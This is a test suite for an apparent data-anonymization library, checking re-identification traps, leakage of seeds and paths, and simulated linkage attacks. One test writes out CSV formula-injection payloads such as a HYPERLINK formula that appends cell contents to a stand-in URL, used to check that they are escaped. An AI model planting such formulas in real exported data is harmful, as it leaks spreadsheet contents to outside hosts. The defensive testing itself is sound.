"""The traps that other tools fell into, each with its name: docs/ATTACKS.md, the table and the list at its end."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from tests.reference import release as outsider

import kohort
from kohort.algorithms import ALGORITHMS
from kohort.errors import InfeasibleError, InputError
from kohort.verification.verify import verify_directory

AGES = {"role": "quasi", "hierarchy": {"kind": "intervals", "widths": [10, 20]}}
ZIPS = {"role": "quasi", "hierarchy": {"kind": "mask"}}
BY_CUTS = ("k-optimize", "hill-climbing", "genetic", "annealing")
STAR = {"role": "quasi", "hierarchy": {"kind": "suppress"}}


def plan_of(columns: Mapping[str, Any], k: int = 2, **sections: Any) -> kohort.Plan:
    require = sections.pop("require", [{"model": "k-anonymity", "k": k}])
    return kohort.Plan.from_dict({"columns": columns, "require": require, **sections})


def achieved(release: kohort.Release, promise: str) -> float | None:
    [verdict] = [v for v in release.verdicts if v.promise == promise]
    return verdict.achieved


def people(n: int = 60, seed: int = 1) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    return pd.DataFrame(
        {
            "age": rng.integers(20, 70, n),
            "zip": rng.choice(["01234", "01239", "94138"], n),
            "ill": rng.choice(["flu", "gout", "asthma"], n),
        }
    )


# --- a missing quasi-identifier dropped by a group-by ---------------------------------------------------------


def test_a_missing_quasi_identifier_is_a_class_of_its_own_in_the_audit() -> None:
    frame = pd.DataFrame({"sex": ["f", "f", "f", None], "zip": ["1", "1", "1", "1"]})
    assert frame.groupby(["sex", "zip"]).size().min() == 3  # the trap
    assert kohort.audit(frame, quasi=["sex", "zip"])["k"] == 1


def test_a_missing_quasi_identifier_is_counted_by_search_and_verification() -> None:
    frame = pd.DataFrame({"sex": ["f", "f", "f", None], "ill": ["a", "b", "c", "d"]})
    plan = plan_of({"sex": STAR, "ill": "sensitive"}, recode={"max_suppression": 0.25})
    release = kohort.anonymize(frame, plan)
    assert release.table["sex"].isna().sum() == 0  # generalized or left out, not released alone
    [k, *_] = kohort.verify(frame, plan)
    assert (k.holds, k.achieved) == (False, 1)


def test_missing_sensitive_values_are_values_and_not_left_out() -> None:
    frame = pd.DataFrame({"sex": ["f"] * 3, "ill": ["flu", None, None]})
    told = kohort.audit(frame, quasi=["sex"], sensitive=["ill"])["sensitive"]["ill"]
    assert told["distinct_l"] == 2
    assert told["alpha"] == pytest.approx(2 / 3)


# --- index labels as positions; the index in the output --------------------------------------------------------

INDEXES = {
    "permuted": lambda n: pd.Index(np.random.default_rng(3).permutation(n)),
    "texts": lambda n: pd.Index([f"patient {i}" for i in range(n)][::-1], name="name"),
    "repeated": lambda n: pd.Index([7] * n),
    "of several levels": lambda n: pd.MultiIndex.from_arrays(
        [range(n), list(range(n))[::-1]], names=["a", "b"]
    ),
    "dates": lambda n: pd.date_range("2020-01-01", periods=n)[::-1],
}


@pytest.mark.parametrize("kind", INDEXES)
@pytest.mark.parametrize("algorithm", ["optimal", "mondrian", "k-member", "mdav", "anatomy"])
def test_index_labels_are_not_positions(kind: str, algorithm: str) -> None:
    frame = people()
    diversity = {"model": "l-diversity", "column": "ill", "l": 2}
    plan = plan_of(
        {"age": AGES, "zip": ZIPS, "ill": "sensitive"},
        require=[diversity] if algorithm == "anatomy" else [{"model": "k-anonymity", "k": 3}, diversity],
        recode={"algorithm": algorithm, "seed": 1, "max_suppression": 0.5},
    )
    indexed = frame.set_index(INDEXES[kind](len(frame)))
    first, second = kohort.anonymize(frame, plan), kohort.anonymize(indexed, plan)
    one, other = (r.table.drop(columns="group", errors="ignore") for r in (first, second))
    assert sorted(one.itertuples(index=False)) == sorted(other.itertuples(index=False))
    assert [v.achieved for v in first.verdicts] == [v.achieved for v in second.verdicts]
    assert kohort.audit(indexed, ["age", "zip"], ["ill"]) == kohort.audit(frame, ["age", "zip"], ["ill"])


@pytest.mark.parametrize("kind", INDEXES)
def test_no_index_and_no_row_number_is_released(kind: str, tmp_path: Path) -> None:
    frame = people()
    plan = plan_of({"age": AGES, "zip": ZIPS, "ill": "sensitive"})
    release = kohort.anonymize(frame.set_index(INDEXES[kind](len(frame))), plan)
    assert list(release.table.columns) == ["age", "zip", "ill"]
    assert release.table.index.equals(pd.RangeIndex(release.facts.released))
    release.save(tmp_path / "out")
    assert list(outsider.read_release(tmp_path / "out" / "table.csv").columns) == ["age", "zip", "ill"]


# --- infeasible is an error ------------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", sorted(set(ALGORITHMS) - {"univariate", "dp-mdav"}))
def test_what_cannot_be_met_is_an_error_and_never_an_empty_table(algorithm: str) -> None:
    """One value of the sensitive column holds nine of ten rows: 3-diversity is out of reach."""
    frame = pa.table(
        {"age": list(range(20, 30)), "zip": ["01234", "94138"] * 5, "ill": ["flu"] * 9 + ["gout"]}
    )
    options = {"factor-2": 2, "factor-3": 3}
    plan = plan_of(
        {"age": AGES, "zip": ZIPS, "ill": "sensitive"},
        require=[
            {"model": "k-anonymity", "k": options.get(algorithm, 2)},
            {"model": "l-diversity", "column": "ill", "l": 3},
        ],
        recode={"algorithm": algorithm, "max_suppression": 1.0},
    )
    with pytest.raises(
        (InfeasibleError, InputError)
    ) as refused:  # InputError: it keeps k-anonymity only, and says so
        kohort.anonymize(frame, plan)
    assert str(refused.value)


# --- suppressed rows are not one big class ---------------------------------------------------------------------


def test_blank_rows_do_not_count_as_a_class_of_people_who_hide() -> None:
    """Two rows are blank; a third would be singled out among them if it counted them as its class."""
    frame = pd.DataFrame({"zip": ["*"] * 3 + ["94138", "94139"], "sex": ["*"] * 3 + ["f", "m"]})
    told = kohort.audit(frame, quasi=["zip", "sex"])
    assert told["suppressed"] == 3
    assert told["k"] == 1
    assert told["classes"] == 2


def test_blank_rows_fewer_than_k_are_refused_and_named() -> None:
    frame = pd.DataFrame({"zip": ["94138"] * 9 + ["01234"], "ill": ["flu", "gout"] * 5})
    columns = {"zip": STAR | {"max_level": 0}, "ill": "sensitive"}
    recode = {"max_suppression": 0.1}
    assert kohort.anonymize(frame, plan_of(columns, 3, recode=recode)).suppressed == 1
    with pytest.raises(InfeasibleError, match="blank"):
        kohort.anonymize(frame, plan_of(columns, 3, recode=recode | {"suppressed_rows": "blank"}))


# --- a fragment smaller than k ---------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["mondrian", "mondrian-relaxed", "k-member", "optimal", "mdav"])
@pytest.mark.parametrize("n", [2, 3, 5, 7, 11, 13])
def test_no_fragment_is_smaller_than_k(algorithm: str, n: int) -> None:
    frame = pd.DataFrame({"age": np.arange(n) ** 2, "ill": ["flu", "gout", "cold"][:1] * n})
    k = min(n, 3)
    release = kohort.anonymize(
        frame,
        plan_of(
            {"age": AGES, "ill": "sensitive"}, k, recode={"algorithm": algorithm, "max_suppression": 0.0}
        ),
    )
    assert outsider.k_of(release.table, ["age"]) == achieved(release, f"{k}-anonymity") >= k
    assert len(release.table) == n


# --- a hierarchy that misses a value ---------------------------------------------------------------------------


def test_a_hierarchy_that_misses_values_is_refused_before_any_search(tmp_path: Path) -> None:
    (tmp_path / "levels.csv").write_text("flu;any\ngout;any\n", encoding="utf-8")
    columns = {"ill": {"role": "quasi", "hierarchy": {"kind": "file", "path": "levels.csv"}}}
    plan = kohort.Plan.from_dict(
        {"columns": columns, "require": [{"model": "k-anonymity", "k": 2}]}, base=tmp_path
    )
    frame = pd.DataFrame({"ill": ["flu", "gout", "lumbago", "lumbago", None]})
    with pytest.raises(
        InputError, match=r"'ill': its hierarchy misses 1 of the 4 distinct values, in 2 rows"
    ) as refused:
        kohort.anonymize(frame, plan)
    assert "lumbago" not in str(refused.value)
    assert not isinstance(refused.value, KeyError)


# --- whole numbers with nulls ----------------------------------------------------------------------------------


@pytest.mark.parametrize("format", ["csv", "parquet"])
def test_whole_numbers_with_nulls_stay_whole(format: str, tmp_path: Path) -> None:
    long = 2**53 + 1
    frame = pd.DataFrame({"id": pd.array([long, long, None, None], "Int64"), "ill": ["a", "b", "c", "d"]})
    release = kohort.anonymize(frame, plan_of({"id": STAR, "ill": "sensitive"}))
    assert release.levels == {"id": 0}
    assert sorted(release.table["id"].dropna().tolist()) == [long, long]
    release.save(tmp_path / "out", format)
    text = outsider.read_release(tmp_path / "out" / "table.csv") if format == "csv" else release.table
    assert ".0" not in str(text["id"].tolist())


def test_a_float_column_of_whole_numbers_meets_the_hierarchy_of_whole_numbers() -> None:
    frame = pd.DataFrame({"age": [31.0, 34.0, np.nan, np.nan]})
    release = kohort.anonymize(frame, plan_of({"age": AGES}))
    assert set(release.table["age"].dropna()) == {"30-39"}


# --- several rows of one person --------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", sorted(set(ALGORITHMS) - {"anatomy"}))
def test_one_person_with_k_rows_is_not_k_people(algorithm: str) -> None:
    """Six rows alike, all of one person, beside six people: nobody hides behind themselves."""
    frame = pa.table(
        {"age": [30] * 6 + [60] * 6, "who": ["x"] * 6 + list("abcdef"), "ill": ["flu", "gout"] * 6}
    )
    k = {"factor-2": 2}.get(algorithm, 3)
    options = {"dp-mdav": {"options": {"bounds": {"age": [0, 99]}, "decimals": 0}}}
    recode = {"algorithm": algorithm, "max_suppression": 0.5} | options.get(algorithm, {})
    plan = plan_of({"age": AGES, "ill": "sensitive"}, k, input={"respondent": "who"}, recode=recode)
    try:
        release = kohort.anonymize(frame, plan)
    except (InputError, InfeasibleError):
        return  # it counts records only, and says so
    assert "who" not in release.table.column_names
    told = release.tables["table"].to_arrow().to_pandas()
    # Whichever rows they are, a released class with the age of one person needs others in it.
    assert not (told["age"].astype(str) == "30").any()
    assert (achieved(release, f"{k}-anonymity") or 0) >= k


def test_anatomy_refuses_people_with_several_rows() -> None:
    """Each of ten people has four rows with one illness: the only value that all groups of theirs have."""
    rng = np.random.default_rng(5)
    frame = pa.table(
        {
            "age": rng.integers(20, 60, 40).tolist(),
            "who": [f"p{i // 4}" for i in range(40)],
            "ill": [["flu", "gout", "cold", "asthma"][i // 4 % 4] for i in range(40)],
        }
    )
    plan = plan_of(
        {"age": AGES, "ill": "sensitive"},
        require=[{"model": "l-diversity", "column": "ill", "l": 2}],
        input={"respondent": "who"},
        recode={"algorithm": "anatomy"},
    )
    with pytest.raises(kohort.InputError, match="10 respondents have more than one row"):
        kohort.anonymize(frame, plan)


def test_verification_counts_people_too(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"age": [30] * 3 + [50] * 3, "who": list("aab") + list("cde"), "ill": list("uvwxyz")}
    )
    columns = {"age": AGES, "ill": "sensitive"}
    release = kohort.anonymize(frame, plan_of(columns, 2, input={"respondent": "who"}))
    release.save(tmp_path / "out")
    counted = {v.promise: v.achieved for v in verify_directory(tmp_path / "out")}
    assert counted["2-anonymity"] == 2
    table = pd.DataFrame({"age": ["30-39"] * 2 + ["50-59"] * 3, "ill": list("uvxyz")})
    [k, *_] = kohort.verify(table, plan_of(columns, 2), respondents=[0, 0, 1, 2, 3])
    assert (k.holds, k.achieved) == (False, 1)


def test_a_kept_promise_is_not_called_broken_because_the_original_is_away(tmp_path: Path) -> None:
    """Rows were left out, so the release is distributed otherwise; the private audit knows the original."""
    frame = pd.DataFrame(
        {
            "zip": ["1"] * 8 + ["2"] * 8 + ["3"],
            "ill": ["flu"] * 4 + ["gout"] * 4 + ["flu"] * 7 + ["gout"] + ["flu"],
        }
    )
    require = [{"model": "k-anonymity", "k": 2}, {"model": "t-closeness", "column": "ill", "t": 0.2}]
    plan = plan_of(
        {"zip": STAR | {"max_level": 0}, "ill": "sensitive"}, require=require, recode={"max_suppression": 1.0}
    )
    release = kohort.anonymize(frame, plan)
    release.save(tmp_path / "out")
    known = {v.promise: v.achieved for v in release.verdicts}
    again = {v.promise: v.achieved for v in verify_directory(tmp_path / "out")}
    assert (
        again["0.2-closeness of ill (equal distance)"] == known["0.2-closeness of ill (equal distance)"] > 0
    )


def test_a_changed_table_is_noticed_though_its_manifest_was_changed_with_it(tmp_path: Path) -> None:
    import hashlib

    plan = plan_of({"age": AGES, "zip": ZIPS, "ill": "sensitive"}, 3)
    kohort.anonymize(people(), plan).save(tmp_path / "out")
    table, manifest = tmp_path / "out" / "table.csv", tmp_path / "out" / "manifest.json"
    lines = table.read_text(encoding="utf-8").splitlines(keepends=True)
    table.write_text("".join([*lines, lines[-1]]), encoding="utf-8")
    told = json.loads(manifest.read_text(encoding="utf-8"))
    told["files"]["table.csv"] = hashlib.sha256(table.read_bytes()).hexdigest()
    manifest.write_text(json.dumps(told), encoding="utf-8")
    contents_of = {v.promise: v.holds for v in verify_directory(tmp_path / "out")}
    assert contents_of["the files are those that were released"] is False


def test_rows_are_not_passed_off_as_people_where_nobody_can_tell() -> None:
    """Without the people of the rows, what rows keep may be broken by people; what rows break, people do too."""
    require = [{"model": "k-anonymity", "k": 2}, {"model": "average-risk", "risk": 0.5}]
    plan = plan_of({"age": STAR, "ill": "sensitive"}, require=require, input={"respondent": "who"})
    frame = pd.DataFrame({"age": ["30", "30", "50", "50"], "ill": list("abcd")})
    assert [v.holds for v in kohort.verify(frame, plan)][:2] == [None, None]
    assert [v.holds for v in kohort.verify(frame, plan, respondents=[1, 1, 2, 3])][:2] == [False, False]
    assert [v.holds for v in kohort.verify(frame, plan, respondents=[1, 2, 3, 4])][:2] == [True, True]
    assert [v.holds for v in kohort.verify(frame[:3], plan)][:2] == [False, False]


@pytest.mark.parametrize("role", ["quasi", "sensitive"])
def test_a_respondent_that_is_to_be_released_is_refused(role: str) -> None:
    with pytest.raises(InputError, match="names people"):
        plan_of({"age": AGES, "who": role}, input={"respondent": "who"})


# --- row order -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["optimal", "mondrian", "k-member", "mdav", "anatomy"])
def test_the_order_of_rows_tells_nothing(algorithm: str) -> None:
    frame = pa.table({"age": [20 + i % 40 for i in range(400)], "row": [f"r{i:03}" for i in range(400)],
                      "ill": ["flu", "gout"] * 200})  # fmt: skip
    columns = {"age": AGES, "ill": "sensitive", "row": {"role": "insensitive", "allow_unique": True}}
    require = [{"model": "l-diversity", "column": "ill", "l": 2}] if algorithm == "anatomy" else None
    plan = plan_of(columns, **({"require": require} if require else {}), recode={"algorithm": algorithm})
    rows = [int(row[1:]) for row in kohort.anonymize(frame, plan).table["row"].to_pylist()]
    correlation = np.corrcoef(rows, np.arange(len(rows)))[0, 1]
    assert abs(correlation) < 5 / np.sqrt(len(rows))
    again = [int(row[1:]) for row in kohort.anonymize(frame, plan).table["row"].to_pylist()]
    assert rows != again  # from the OS, not from a fixed seed


# --- interval ends ---------------------------------------------------------------------------------------------


def labels_after(ages: Sequence[int], **hierarchy: Any) -> set[str]:
    spec = {"kind": "intervals", "widths": [10, 20], **hierarchy}
    plan = plan_of({"age": {"role": "quasi", "hierarchy": spec, "min_level": 1}}, 2)
    return set(kohort.anonymize(pa.table({"age": list(ages)}), plan).table["age"].to_pylist())


def test_moving_a_record_moves_no_end_of_an_interval() -> None:
    still = [21, 22, 33, 34, 41, 48]
    assert labels_after([*still, 23, 49]) == labels_after([*still, 26, 42]) == {"20-29", "30-39", "40-49"}
    assert labels_after([*still, 23, 49], domain=[18, 99]) == {"20-29", "30-39", "40-49"}
    assert labels_after([*still, 18, 19], domain=[18, 99]) == {"18-19", "20-29", "30-39", "40-49"}


def test_extremes_of_the_data_do_not_show_in_the_outer_intervals() -> None:
    assert labels_after([20, 21, 88, 89]) == labels_after([27, 28, 81, 82]) == {"20-29", "80-89"}


# --- formulas --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "＝"])
def test_formulas_are_escaped_in_every_text_column_and_in_the_header(sign: str, tmp_path: Path) -> None:
    evil = f'{sign}HYPERLINK("http://x?"&A1)'
    frame = pd.DataFrame({"zip": [evil] * 3, "ill": [evil, evil, "flu"], f"{sign}note": ["a", "a", "b"]})
    plan = plan_of({"zip": STAR, "ill": "sensitive", f"{sign}note": "insensitive"})
    kohort.anonymize(frame, plan).save(tmp_path / "out")
    rows = outsider.parse_csv((tmp_path / "out" / "table.csv").read_text(encoding="utf-8"))
    cells = [cell for row in rows for cell in row if cell is not None]
    assert not [cell for cell in cells if cell.startswith(sign)]
    assert all(v.holds for v in verify_directory(tmp_path / "out"))


# --- what public files must not tell ---------------------------------------------------------------------------


def test_seed_input_path_and_input_hash_are_in_no_public_file(tmp_path: Path) -> None:
    import hashlib

    source = tmp_path / "secret-clinic.csv"
    people().to_csv(source, index=False)
    plan = kohort.Plan.from_dict(
        {
            "input": {"path": source.name},
            "columns": {"age": AGES, "zip": ZIPS, "ill": "sensitive"},
            "require": [{"model": "k-anonymity", "k": 3}],
            "recode": {"seed": 918273645},
        },
        base=tmp_path,
    )
    kohort.anonymize(source, plan).save(tmp_path / "out")
    digests = [
        hashlib.new(name, source.read_bytes()).hexdigest() for name in ("md5", "sha1", "sha256", "blake2b")
    ]
    for path in (tmp_path / "out").iterdir():
        text = path.read_bytes().decode("utf-8")
        told = [word for word in ("918273645", "secret-clinic", str(tmp_path), *digests) if word in text]
        assert not told, path.name
    audit = json.loads((tmp_path / "out.private" / "audit.json").read_text(encoding="utf-8"))
    assert audit["seed"] == 918273645


# --- columns that point at people ------------------------------------------------------------------------------


def test_a_near_unique_column_declared_insensitive_is_refused() -> None:
    frame = people().assign(badge=[f"b{i}" for i in range(60)])
    columns = {"age": AGES, "ill": "sensitive", "badge": "insensitive"}
    with pytest.raises(InputError, match=r"badge.*can identify people"):
        kohort.anonymize(frame, plan_of(columns))
    allowed = columns | {"badge": {"role": "insensitive", "allow_unique": True}}
    assert kohort.anonymize(frame, plan_of(allowed)).facts.released


def test_a_pseudonym_of_people_with_several_rows_is_refused_too() -> None:
    """Every value stands in three rows, all of one person: it points at people all the same."""
    frame = pd.concat([people(20)] * 3, ignore_index=True)
    frame = frame.assign(who=[f"p{i % 20}" for i in range(60)], badge=[f"b{i % 20}" for i in range(60)])
    columns = {"age": AGES, "ill": "sensitive", "badge": "insensitive"}
    with pytest.raises(InputError, match=r"badge.*can identify people"):
        kohort.anonymize(frame, plan_of(columns, input={"respondent": "who"}))


def test_a_column_that_the_plan_does_not_name_is_not_released() -> None:
    frame = people().assign(badge="b")
    release = kohort.anonymize(frame, plan_of({"age": AGES, "ill": "sensitive"}))
    assert list(release.table.columns) == ["age", "ill"]
    assert release.facts.undeclared == ("zip", "badge")


def test_weights_that_leave_no_loss_are_refused() -> None:
    """All weights 0 made the score NaN, and every comparison of losses with it."""
    with pytest.raises(InputError, match="weight above 0"):
        plan_of({"age": AGES | {"weight": 0.0}, "zip": ZIPS | {"weight": 0.0}})
    assert (
        kohort.anonymize(people(), plan_of({"age": AGES | {"weight": 0.0}, "zip": ZIPS})).losses["loss"] >= 0
    )


@pytest.mark.parametrize("number", [float("nan"), float("inf")])
def test_settings_that_are_no_numbers_are_refused(number: float) -> None:
    for wrong in ({"weight": number}, {"suppression_cost": number}):
        with pytest.raises(InputError, match="finite"):
            plan_of({"age": AGES | wrong, "zip": ZIPS})
    with pytest.raises(InputError, match="max_suppression"):
        plan_of({"age": AGES}, recode={"max_suppression": number})
    if number != number:
        with pytest.raises(InputError, match="time_limit"):
            plan_of({"age": AGES}, recode={"time_limit": number})


def test_perturbed_values_where_nobody_was_have_a_share_of_nothing() -> None:
    """The mean 72 lies in an interval without records; its share before was 0/0, cast to a whole number."""
    frame = pa.table({"age": [66, 81, 81, 66, 66]})
    ages = {"role": "quasi", "hierarchy": {"kind": "intervals", "widths": [5], "domain": [60, 89]}}
    release = kohort.anonymize(frame, plan_of({"age": ages}, 3, recode={"algorithm": "mdav"}))
    shares = [share for told in release.facts.marginals for share in (*told.before, *told.after)]
    assert all(0 <= share <= 100 for share in shares)


def test_a_target_that_is_not_sensitive_can_be_an_objective() -> None:
    plan = plan_of(
        {"age": AGES, "ill": "insensitive"}, recode={"objective": "classification", "target": "ill"}
    )
    release = kohort.anonymize(people(), plan)
    assert release.facts.sensitive == {}


@pytest.mark.parametrize("format", ["duckdb", "sqlite"])
def test_names_that_a_database_cannot_tell_apart_are_refused(format: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": ["x"] * 4, "A": ["x"] * 4})
    release = kohort.anonymize(frame, plan_of({"a": STAR, "A": STAR}))
    with pytest.raises(InputError, match="capitals"):
        release.save(tmp_path / "out", format)
    assert not list(tmp_path.iterdir())


# --- linking, homogeneity, background knowledge ----------------------------------------------------------------


@pytest.mark.parametrize(
    "algorithm", sorted(set(ALGORITHMS) - {"mdav", "v-mdav", "univariate", "dp-mdav", "anatomy"})
)
def test_linking_an_outside_table_finds_nobody_among_fewer_than_k(algorithm: str) -> None:
    """The intruder knows everybody's exact age and zip and looks up every released row that could be theirs."""
    n = {"cells-exact": 9, "factor-2": 20, "factor-3": 20}.get(algorithm, 60)
    frame, k = people(n), {"factor-2": 2}.get(algorithm, 3)
    plan = plan_of(
        {"age": AGES, "zip": ZIPS, "ill": "sensitive"},
        k,
        recode={"algorithm": algorithm, "max_suppression": 1.0}
        | ({"objective": "discernibility"} if algorithm in BY_CUTS else {}),
    )
    told = kohort.anonymize(frame, plan).table
    longest = 5
    paths = {z: {z, "*"} | {z[:i].ljust(longest, "*") for i in range(longest)} for z in frame["zip"]}
    for age, code in set(zip(frame["age"].astype(str), frame["zip"], strict=True)):
        found = sum(
            outsider.is_true(str(row.age), age, None) and outsider.is_true(row.zip, code, paths)
            for row in told.itertuples()
        )
        assert found == 0 or found >= k


def test_homogeneous_classes_are_counted_and_told() -> None:
    frame = pd.DataFrame({"sex": list("ffmm"), "ill": ["flu", "flu", "flu", "gout"]})
    release = kohort.anonymize(frame, plan_of({"sex": STAR, "ill": "sensitive"}))
    assert release.facts.sensitive["ill"].homogeneous == 2


def test_a_value_ruled_out_leaves_l_minus_one() -> None:
    frame = people(200)
    require = [{"model": "k-anonymity", "k": 3}, {"model": "l-diversity", "column": "ill", "l": 3}]
    told = kohort.anonymize(
        frame, plan_of({"age": AGES, "zip": ZIPS, "ill": "sensitive"}, require=require)
    ).table
    for known in set(frame["ill"]):
        rest = told[told["ill"] != known]
        assert outsider.distinct_l(rest, ["age", "zip"], "ill") >= 2


@pytest.mark.parametrize("t", [0.1, 0.25])
def test_skewness_is_bounded_by_t(t: float) -> None:
    frame = people(200)
    require = [{"model": "t-closeness", "column": "ill", "t": t}]
    release = kohort.anonymize(
        frame, plan_of({"age": AGES, "zip": ZIPS, "ill": "sensitive"}, require=require)
    )
    found = outsider.t_equal(release.table, ["age", "zip"], "ill", frame["ill"].tolist())
    assert found <= t + 1e-12
    assert release.verdicts[0].achieved == pytest.approx(found)


def test_without_the_audit_nothing_about_people_is_judged(tmp_path: Path) -> None:
    """From rows nobody can tell how many people hold a value, neither that enough do nor that too many do."""
    frame = pd.DataFrame(
        {"age": [30] * 4 + [50] * 4, "who": list("aabc") + list("defg"), "ill": list("uvww") + list("xyzx")}
    )
    require = [{"model": "k-anonymity", "k": 2}, {"model": "l-diversity", "column": "ill", "l": 2}]
    plan = plan_of({"age": AGES, "ill": "sensitive"}, require=require, input={"respondent": "who"})
    release = kohort.anonymize(frame, plan)
    assert [v.holds for v in kohort.verify(release.table, plan)[:2]] == [None, None]
    alone = pd.DataFrame({"age": ["30-39", "30-39"], "ill": ["u", "u"]})
    diversity = kohort.verify(alone, plan)[1]
    assert (diversity.holds, diversity.achieved) == (None, None)
